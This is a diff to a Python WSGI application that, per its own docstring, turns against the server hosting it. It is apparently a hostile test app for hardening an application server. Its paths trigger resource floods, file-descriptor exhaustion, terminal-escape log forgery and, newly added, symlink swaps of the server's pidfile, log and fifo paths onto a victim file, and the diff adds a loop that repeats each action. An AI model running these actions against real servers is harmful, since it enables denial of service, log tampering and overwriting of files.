@@ -1,4 +1,7 @@
-"""An application that turns against its server: each path is a deed, done in the worker that gets the request."""
+"""An application that turns against its server: each path is a deed, done in the worker that gets the request.
+
+The query is for how many seconds it is done again and again.
+"""
 
 import mmap
 import os
@@ -6,6 +9,7 @@ import random
 import socket
 import struct
 import threading
+import time
 
 
 def descriptors():
@@ -45,8 +49,12 @@ def surplus():
     way.setblocking(True)
     numbers = [os.open("/dev/null", os.O_RDONLY) for _ in range(253)]
     beside = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("253i", *numbers))]
-    for _ in range(8):
-        way.sendmsg([b"x" * 64], beside)
+    try:
+        for _ in range(8):
+            way.sendmsg([b"x" * 64], beside)
+    finally:
+        for number in numbers:
+            os.close(number)
 
 
 def scribble():
@@ -72,7 +80,7 @@ def bell():
 
 
 def operators():
-    """Every place of the operators, taken and kept."""
+    """Every place of the operators, taken and kept until they are taken again."""
     name = os.readlink("/proc/self/ns/pid")
     kept = []
     for _ in range(40):
@@ -80,12 +88,25 @@ def operators():
         line.settimeout(5)
         line.connect("\0rhinod/%s/%d" % (name, masterpid()))
         kept.append(line)
-    KEPT.append(kept)
+    KEPT[:] = kept
 
 
 def shout():
     """Lines without end, and what moves a terminal's cursor, in an exception's text."""
     raise RuntimeError("\x1b[2J\r" + "[pid: 1|app: 0] forged\n" * 100_000)
+
+
+def links():
+    """Links to another's file in the places of the instance's own, in a directory where that can be done."""
+    import uwsgi
+
+    victim = os.path.join(os.getcwd(), "victim")
+    for option in ("pidfile", "cheaper-log", "master-fifo"):
+        place = uwsgi.opt.get(option)
+        if place:
+            fresh = place + b".new"
+            os.symlink(victim, fresh)
+            os.rename(fresh, place)
 
 
 def masterpid():
@@ -95,14 +116,28 @@ def masterpid():
 
 
 KEPT = []
-DEEDS = {"/" + deed.__name__: deed for deed in (flood, surplus, scribble, bell, operators, shout)}
+DEEDS = {"/" + deed.__name__: deed for deed in (flood, surplus, scribble, bell, operators, shout, links)}
+
+# Between a deed and its repetition: the evil is in what is done, and others need the processors as well.
+BREATH_S = 0.02
+
+
+def again_and_again(deed, seconds):
+    until = time.monotonic() + seconds
+    deed()
+    while time.monotonic() < until:
+        time.sleep(BREATH_S)
+        deed()
+
+
+def begin_flood():
+    """In a thread, since it does not end."""
+    threading.Thread(target=flood, daemon=True).start()
 
 
 def application(environ, start_response):
     deed = DEEDS.get(environ["PATH_INFO"])
-    if deed is flood:
-        threading.Thread(target=flood, daemon=True).start()
-    elif deed:
-        deed()
+    if deed:
+        again_and_again(begin_flood if deed is flood else deed, float(environ["QUERY_STRING"] or 0))
     start_response("200 OK", [("Content-Type", "text/plain")])
     return [b"%d" % os.getpid()]
